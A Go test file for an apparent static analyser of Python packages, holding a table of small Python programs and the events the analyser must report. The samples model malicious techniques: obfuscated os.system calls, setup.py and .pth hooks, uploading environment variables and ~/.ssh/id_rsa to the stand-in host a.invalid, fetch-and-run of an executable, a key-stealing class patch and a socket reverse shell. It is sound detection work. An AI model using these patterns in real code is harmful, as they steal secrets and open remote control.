package flow

import (
	"strings"
	"testing"
)

// programs are small artifacts and the events that they must and must not
// have: a line that begins with "!" names what no event may hold, others are
// found in some event, in their order.
var programs = []struct{ name, code, want string }{
	{"alias of a module", `
import os as o
o.system("true")`, `import os.system('true')`},
	{"from with another name", `
from requests import get as g
g("https://a.invalid")`, `import requests.get('https://a.invalid')`},
	{"star from outside", `
from os import *
system("true")`, `import os.system('true')`},
	{"getattr put together", `
getattr(__import__("".join(["o", "s"])), "sys" + "tem")("true")`, `import os.system('true')`},
	{"builtins dict", `
__builtins__.__dict__["ex" + "ec"]("import os; os.system('true')")`, `import os.system('true') in exec()`},
	{"builtins subscript", `
__builtins__["eval"]("__import__('os').system('true')")`, `import os.system('true') in eval()`},
	{"globals", `
import os
globals()["os"].system("true")`, `import os.system('true')`},
	{"globals call", `
def f(): import os; os.system("true")
globals()["f"]()`, `import os.system('true')`},
	{"sys.modules", `
import os, sys
sys.modules["os"].system("true")`, `import os.system('true')`},
	{"vars", `
import os
vars(os)["system"]("true")`, `import os.system('true')`},
	{"partial", `
import os, functools
functools.partial(os.system, "true")()`, `import os.system('true')`},
	{"attrgetter", `
import os, operator
operator.attrgetter("system")(os)("true")`, `import os.system('true')`},
	{"methodcaller", `
import os, operator
operator.methodcaller("system", "true")(os)`, `import os.system('true')`},
	{"exec alias", `
x = exec
x("import os\nos.system('true')")`, `import os.system('true') in exec()`},
	{"compile", `
exec(compile("import os; os.system('true')", "<s>", "exec"))`, `import os.system('true') in exec()`},
	{"layers", `
import base64, zlib
exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2zi/WK64sLknN1VAqKSpNVdK0BgCO8Amr")))`, `import os.system('true') in exec(base64, zlib)`},
	{"chr list", `
exec("".join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,116,114,117,101,39,41])))`, `import os.system('true')`},
	{"xor loop", `
def d(s, k):
    out = ""
    for i in range(len(s)):
        out += chr(s[i] ^ k)
    return out
import os
getattr(os, d([ord(c) ^ 7 for c in "system"], 7))("true")`, `import os.system('true')`},
	{"while decode", `
import os
data = [116, 114, 117, 101]
out = ""
while data:
    out += chr(data.pop(0))
os.system(out)`, `import os.system('true')`},
	{"main guard", `
import os
if __name__ == "__main__":
    os.system("true")`, `entry os.system('true')`},
	{"unknown branch", `
import os, sys
if sys.platform == "win32":
    cmd = "one"
else:
    cmd = "two"
os.system(cmd)`, `import os.system('one' or 'two')`},
	{"false branch", `
import os
DEBUG = False
if DEBUG:
    os.system("true")`, `dead os.system('true')`},
	{"after return", `
import os
def f():
    return 1
    os.system("true")
f()`, `dead os.system('true')
!import os.system`},
	{"after exit", `
import os, sys
sys.exit(0)
os.system("true")`, `dead os.system('true')`},
	{"try", `
import os
try:
    os.system("one")
except Exception:
    pass
os.system("two")`, `import os.system('one') guarded
import os.system('two')`},
	{"fallback import", `
try:
    from urllib.request import urlopen
except ImportError:
    from urllib2 import urlopen
exec(urlopen("https://a.invalid").read())`, `import urllib.request.urlopen('https://a.invalid')
import builtins.exec(urllib.request.urlopen().read()) <network>`},
	{"parameter", `
import requests
def send(private_key):
    requests.post("https://a.invalid", json={"k": private_key})`, `call requests.post('https://a.invalid', json={'k': ...}) <parameter,secret-parameter>`},
	{"method", `
import os
class A:
    def __init__(self, key):
        self.key = key
    def go(self):
        os.system("echo " + self.key)`, `call os.system(`},
	{"instance", `
import os
class A:
    def __init__(self, x): self.x = x
    def go(self): os.system(self.x)
A("true").go()`, `import os.system('true')`},
	{"inherited", `
import os
class A:
    def go(self): self.do("true")
class B(A):
    def do(self, x): os.system(x)
B().go()`, `import os.system('true')`},
	{"super", `
import os
class A:
    def go(self, x): os.system(x)
class B(A):
    def go(self, x): super().go(x + "e")
B().go("tru")`, `import os.system('true')`},
	{"property", `
import os
class A:
    @property
    def p(self): os.system("true")
A().p`, `import os.system('true')`},
	{"class body", `
import os
class A:
    os.system("true")`, `import os.system('true')`},
	{"metaclass", `
import os
class M(type):
    def __new__(cls, name, bases, names):
        os.system("true")
        return type.__new__(cls, name, bases, names)
class A(metaclass=M): pass`, `import os.system('true')`},
	{"init_subclass", `
import os
class A:
    def __init_subclass__(cls, **kw): os.system("true")
class B(A): pass`, `import os.system('true')`},
	{"decorator", `
import os
def d(f):
    os.system("true")
    return f
@d
def g(): pass`, `import os.system('true')`},
	{"decorated call", `
import os
def run(f): f(); return f
@run
def g(): os.system("true")`, `import os.system('true')`},
	{"outside decorator", `
import os, click
@click.command()
def g(): os.system("true")`, `call os.system('true')`},
	{"thread", `
import os, threading
def f(x): os.system(x)
threading.Thread(target=f, args=("true",)).start()`, `import os.system('true')`},
	{"thread class", `
import os, threading
class T(threading.Thread):
    def run(self): os.system("true")
T().start()`, `import os.system('true')`},
	{"atexit", `
import os, atexit
@atexit.register
def f(): os.system("true")`, `import os.system('true')`},
	{"lambda", `
import os
f = lambda x: os.system(x)
f("true")`, `import os.system('true')`},
	{"with", `
import subprocess
with subprocess.Popen(["true"]) as p:
    pass`, `import subprocess.Popen(['true'])`},
	{"own context", `
import os
class C:
    def __enter__(self): os.system("in"); return self
    def __exit__(self, *a): os.system("out")
with C() as c: pass`, `import os.system('in')
import os.system('out')`},
	{"generator", `
import os
def g():
    yield "tr"
    yield "ue"
os.system("".join(g()))`, `import os.system('true')`},
	{"comprehension", `
import os
[os.system(x) for x in ("one", "two")]`, `import os.system('one')
import os.system('two')`},
	{"environment", `
import os, requests
requests.post("https://a.invalid", json=dict(os.environ))`, `import requests.post('https://a.invalid', json=`},
	{"one variable", `
import os
x = os.environ.get("HOME")
y = os.getenv("API_TOKEN")`, `import os.environ[]('HOME') <variable>
import os.environ[]('API_TOKEN') <variable,secret-variable>
!<environment>`},
	{"secret file", `
import os, requests
p = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
requests.post("https://a.invalid", data=open(p).read())`, `requests.post('https://a.invalid', data=open(`},
	{"fetch, write, run", `
import requests, subprocess, os, tempfile
p = os.path.join(tempfile.gettempdir(), "update.exe")
with open(p, "wb") as f:
    f.write(requests.get("https://a.invalid/x").content)
subprocess.Popen([p])`, `import subprocess.Popen([`},
	{"reverse shell", `
import socket, subprocess
s = socket.socket()
s.connect(("a.invalid", 4444))
while True:
    c = s.recv(1024).decode()
    o = subprocess.getoutput(c)
    s.send(o.encode())`, `import socket.socket().connect(('a.invalid', 4444))
import socket.socket().recv(1024)
import subprocess.getoutput(socket.socket().recv().decode()) <received>
import socket.socket().send(`},
	{"python -c", `
import subprocess, sys
subprocess.check_call([sys.executable, "-c", "import os; os.system('true')"])`, `import os.system('true') in -c()`},
	{"python -c text", `
import os
os.system('python3 -c "import os; os.system(\'true\')"')`, `import os.system('true') in -c()`},
	{"setup cmdclass", `
== setup.py
from setuptools import setup
from setuptools.command.install import install
import os
class I(install):
    def run(self):
        install.run(self)
        os.system("true")
setup(name="x", cmdclass={"install": I})`, `build os.system('true')`},
	{"setup imports", `
== setup.py
from pkg.x import f
f()
== pkg/__init__.py
== pkg/x.py
import os
def f(): os.system("true")
def g(): os.system("other")`, `build os.system('true')
call os.system('other')`},
	{"setup beside", `
== setup.py
import hook
== hook.py
import os
os.system("true")`, `build os.system('true')`},
	{"setup starts a file", `
== setup.py
import subprocess
subprocess.call(["python", "post.py"])
== post.py
import os
os.system("true")`, `build os.system('true')`},
	{"exec of a file", `
== setup.py
exec(open("hidden.txt").read())
== hidden.txt
import os
os.system("true")`, `build os.system('true') in exec()`},
	{"exec of a file beside", `
== pkg/__init__.py
import os
exec(open(os.path.join(os.path.dirname(__file__), "data.bin")).read())
== pkg/data.bin
os.system("true")`, `import os.system('true')`},
	{"relative import", `
== pkg/__init__.py
from .core import *
== pkg/core.py
import os
os.system("true")`, `import os.system('true')`},
	{"orphan", `
== pkg/__init__.py
== pkg/lost.py
import os
os.system("true")`, `import os.system('true')`},
	{"tests", `
== pkg/__init__.py
x = 1
== tests/test_x.py
import os
os.system("true")
def test(): os.system("two")`, `dead os.system('true')
dead os.system('two')`},
	{"pth", `
== x.pth
import os; exec("os.system('true')")`, `start os.system('true') in exec()`},
	{"entry", `
== pkg/__init__.py
x = 1
== pkg/cli.py
import os
def main(): os.system("true")`, `entry os.system('true')`},
	{"python 2", `
import os
print "x"
exec "os.system('true')"`, `import os.system('true') in exec()`},
	{"module getattr", `
== pkg/__init__.py
from .m import anything
== pkg/m.py
import os
def __getattr__(name): os.system("true")`, `import os.system('true')`},
	{"match", `
import os
match os.name:
    case "nt": os.system("one")
    case other: os.system("two")`, `import os.system('one')
import os.system('two')`},
	{"global", `
import os
cmd = ""
def f():
    global cmd
    cmd = "true"
f()
os.system(cmd)`, `import os.system('true')`},
	{"kwargs", `
import os
def f(**kw): os.system(kw["x"])
f(**{"x": "true"})`, `import os.system('true')`},
	{"doc", `
"""import os; os.system('true')"""
exec(__doc__)`, `import os.system('true')`},
	{"eval result", `
import os
f = eval("lambda x: os.system(x)")
f("true")`, `import os.system('true')`},
	{"exec into a dict", `
import os
d = {"os": os}
exec("def f(): os.system('true')", d)
d["f"]()`, `import os.system('true')`},
	{"type with three", `
import os
A = type("A", (), {"go": lambda self: os.system("true")})
A().go()`, `import os.system('true')`},
	{"patched class", `
import solders, requests
def patched(self, key):
    requests.post("https://a.invalid", data=key)
solders.Keypair.__init__ = patched`, `import requests.post('https://a.invalid', data=`},
	{"call attribute", `
import os
os.system.__call__("true")`, `import os.system('true')`},
	{"flags of parameters", `
import os
def f(debug=False):
    if debug: os.system("true")
f()`, `dead os.system('true')
call os.system('true')`},
	{"archive of secrets", `
import os, zipfile, requests
p = os.path.expanduser("~/.ssh/id_rsa")
with zipfile.ZipFile("x.zip", "w") as z:
    z.write(p)
requests.post("https://a.invalid", files={"f": open("x.zip", "rb")})`, `secret-file`},
	{"message of parts", `
import os, smtplib
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
m = MIMEMultipart()
m.attach(MIMEText(str(dict(os.environ))))
s = smtplib.SMTP("a.invalid")
s.sendmail("a", "b", m.as_string())`, `import smtplib.SMTP().sendmail('a', 'b', email.mime.multipart.MIMEMultipart().as_string()) <environment`},
	{"put into a request", `
import os, requests
data = {}
data["e"] = os.environ["SECRET_KEY"]
requests.post("https://a.invalid", json=data)`, `import requests.post('https://a.invalid', json={'e': ...}) <variable,secret-variable>`},
	{"many commands", `
import os
def run(c): os.system(c)
run("true 0")
run("true 1")
run("true 2")
run("true 3")
run("true 4")
run("true 5")
run("true 6")
run("true 7")
run("true 8")
run("true 9")
run("true 10")
run("true 11")
run("true 12")
run("true 13")
run("true 14")
run("true 15")
run("true 16")
run("true 17")
run("true 18")
run("true 19")
run("true 20")
run("true 21")
run("true 22")
run("true 23")
run("true 24")
run("true 25")
run("true 26")
run("true 27")
run("true 28")
run("true 29")
`, `import os.system('true 0')
import os.system('true 29')`},
	{"listed name", `
import os
getattr(os, dir(os)[dir(os).index("sys" + "tem")])("true")`, `import os.system('true')`},
	{"unbound", `
os.system("true")`, `import os.system('true')`},
	{"async", `
import os, asyncio
async def main(): os.system("true")
asyncio.run(main())`, `import os.system('true')`},
}

func TestPrograms(t *testing.T) { holdPrograms(t, programs) }

// holdPrograms executes programs and looks for the events that they want.
func holdPrograms(t *testing.T, table []struct{ name, code, want string }) {
	for _, p := range table {
		t.Run(p.name, func(t *testing.T) {
			trace := execute(t, strings.TrimPrefix(p.code, "\n")+"\n")
			var events []string
			for i := range trace.Events {
				events = append(events, told(&trace.Events[i]))
			}
			all := strings.Join(events, "\n")
			rest := events
			for want := range strings.Lines(p.want) {
				want = strings.TrimSpace(want)
				if never, ok := strings.CutPrefix(want, "!"); ok {
					if strings.Contains(all, never) {
						t.Errorf("an event holds %q in\n%s", never, all)
					}
					continue
				}
				i := 0
				for i < len(rest) && !strings.Contains(rest[i], want) {
					i++
				}
				if i == len(rest) {
					t.Errorf("no event %q in\n%s", want, all)
					break
				}
				rest = rest[i+1:]
			}
		})
	}
}
